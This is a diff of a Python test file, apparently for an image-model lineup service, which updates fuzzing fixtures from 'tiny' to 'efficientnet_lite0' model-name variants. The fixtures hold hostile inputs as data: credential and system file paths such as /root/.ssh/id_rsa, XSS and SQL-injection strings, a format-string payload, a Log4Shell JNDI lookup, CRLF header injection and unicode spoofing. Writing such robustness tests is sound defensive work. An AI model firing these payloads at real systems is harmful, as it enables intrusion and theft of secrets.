@@ -17,10 +17,12 @@ from urllib.parse import quote, urlencode
 ELSEWHERE = ("http://lineup-tests.invalid/a.jpg", "https://192.0.2.1:9/a.png", "HTTP://192.0.2.1/a.gif")
 TARGETS = ("/etc/passwd", "/etc/hostname", "/proc/self/environ", "/proc/self/fd/0", "/root/.ssh/id_rsa")
 STRINGS = (
-    *("", " ", "\0", "a\0b", "tiny\n", " tiny", "TINY", "tiny_resnet", "resnet18", "torchvision/resnet50"),
+    *("", " ", "\0", "a\0b", "efficientnet_lite0\n", " efficientnet_lite0", "EFFICIENTNET_LITE0"),
+    *("efficientnet_lite0", "resnet18", "torchvision/resnet50"),
     *("hf-hub:me/evil", "local-dir:/etc", "nan", "null", "None", "-1", "3", "__proto__", "__class__"),
     *("<script>alert(1)</script>", "' OR 1=1 --", "%s%n%x", "{0.__class__}", "${jndi:ldap://192.0.2.1/a}"),
-    *("\ud800", "\u202eynit", "𝕥𝕚𝕟𝕪", "tiny\u0301", "🖼️" * 500, "x" * 100_000, "\r\nSet-Cookie: a=b"),
+    *("\ud800", "\u202e0etil_tenneiciffe", "𝕖fficientnet_lite0"),
+    *("efficientnet_lite0\u0301", "🖼️" * 500, "x" * 100_000, "\r\nSet-Cookie: a=b"),
 )
 NUMBERS = (0, 1, -1, 2.5, 3.0, -0.0, 1001, 10**9, 1e9, 2**63, 10**400, 1e308, float("nan"), float("inf"), -float("inf"))
 GIF = base64.b64encode(b"GIF89a\1\0\1\0\0\0\0;").decode()
